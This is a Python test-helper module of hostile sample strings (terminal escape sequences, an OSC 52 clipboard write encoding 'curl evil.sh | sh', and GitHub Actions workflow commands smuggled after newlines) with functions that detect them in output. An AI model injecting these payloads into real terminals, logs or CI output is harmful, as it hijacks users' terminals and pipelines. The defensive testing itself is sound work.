"""Hostile text as a cluster, a chart, helm or a gate may hold it: every class of control
character and escape sequence, and GitHub Actions workflow commands after a newline; and
the checks that output shows none of it live (`assert_inert`, `run_commands`)."""

from __future__ import annotations

import re
from collections.abc import Iterable

C0 = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n")
C1 = "".join(chr(c) for c in range(0x80, 0xA0))
SAMPLES = {
    "c0": f"c0[{C0}]",
    "del": "del[\x7f]",
    "c1": f"c1[{C1}]",
    "csi-clear": "\x1b[2J\x1b[H\x1b[31;1mred\x1b[0m",
    "csi-private": "\x1b[?1049h\x1b[?25l",
    "csi-8bit": "\x9b2J\x9b31m",
    "osc-title-bel": "\x1b]0;pwned title\x07",
    "osc-clipboard-st": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
    "osc-8bit": "\x9d2;title\x9c",
    "osc-hyperlink": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "osc-unterminated": "\x1b]0;never ended",
    "dcs": "\x1bP1$qm\x1b\\",
    "sos": "\x1bXsos\x1b\\",
    "pm": "\x1b^privacy\x1b\\",
    "apc": "\x1b_apc\x1b\\",
    "esc-reset": "\x1bc",
    "esc-charset": "\x1b(0",
    "esc-save": "\x1b7\x1b8",
    "esc-lone": "\x1b",
}
INJECTED = "\n::add-mask::leak\n  ::warning title=INJECTED::boom\n##[error]injected\r::set-output name=x::y"
"""Lines the GitHub Actions runner would execute, after a newline (and a carriage return)."""
PAYLOAD = "hostile<" + "".join(SAMPLES.values()) + INJECTED + ">end"
"""Every class at once, in one string (a message, a chart name, a gate's output)."""
ONE_LINE = "hostile<" + "".join(SAMPLES.values()) + ">end"
"""Every class on one line (where a newline is not possible: a label, a name)."""

_LIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_inert(output: str, *, colors: bool = False) -> None:
    """No control character but newline and tab, no DEL, no C1 in `output` (with `colors`,
    SGR sequences, envman's own styles, are allowed), and none of the hostile payloads."""
    text = re.sub(r"\x1b\[[0-9;]*m", "", output) if colors else output
    live = sorted({f"U+{ord(c):04X}" for c in _LIVE.findall(text)})
    assert not live, f"live controls {live} in:\n{output!r}"


_REGISTERED = {
    "add-mask",
    "add-matcher",
    "add-path",
    "debug",
    "echo",
    "endgroup",
    "error",
    "group",
    "notice",
    "remove-matcher",
    "save-state",
    "set-env",
    "set-output",
    "stop-commands",
    "warning",
}
_NET_BLANKS = "".join(chr(c) for c in (*range(9, 14), 0x20, 0x85, 0xA0, 0x1680, *range(0x2000, 0x200B)))
_NET_BLANKS += "\u2028\u2029\u202f\u205f\u3000"


def run_commands(log: str) -> list[tuple[str, str]]:
    """The workflow commands the GitHub Actions runner would execute in `log`, as its
    `ActionCommandManager` parses them (`::cmd props::data` after leading blanks, `##[cmd]data`
    anywhere in a line; lines split at CR and LF), `stop-commands` honoured."""
    found: list[tuple[str, str]] = []
    stop: str | None = None
    for line in re.split(r"\r\n|\r|\n", log):
        command = _parse(line, _REGISTERED | ({stop} if stop else set()))
        if command is None:
            continue
        name, data = command
        if stop is not None:
            if name == stop:
                stop = None
            continue
        if name == "stop-commands":
            stop = data
        found.append(command)
    return found


def _parse(line: str, registered: set[str]) -> tuple[str, str] | None:
    trimmed = line.lstrip(_NET_BLANKS)
    if trimmed.startswith("::"):
        end = trimmed.find("::", 2)
        if end >= 0:
            name = trimmed[2:end].split(" ", 1)[0]
            if name in registered:
                return name, trimmed[end + 2 :]
    at = line.find("##[")
    if at >= 0:
        close = line.find("]", at)
        if close >= 0:
            name = line[at + 3 : close].split(" ", 1)[0]
            if name in registered:
                return name, line[close + 1 :]
    return None


def commands_other_than(log: str, allowed: Iterable[str]) -> list[tuple[str, str]]:
    """The commands the runner would execute in `log` that are not `allowed` (stop-commands
    and its end token are always allowed)."""
    return [(n, d) for n, d in run_commands(log) if n not in {*allowed, "stop-commands"}]
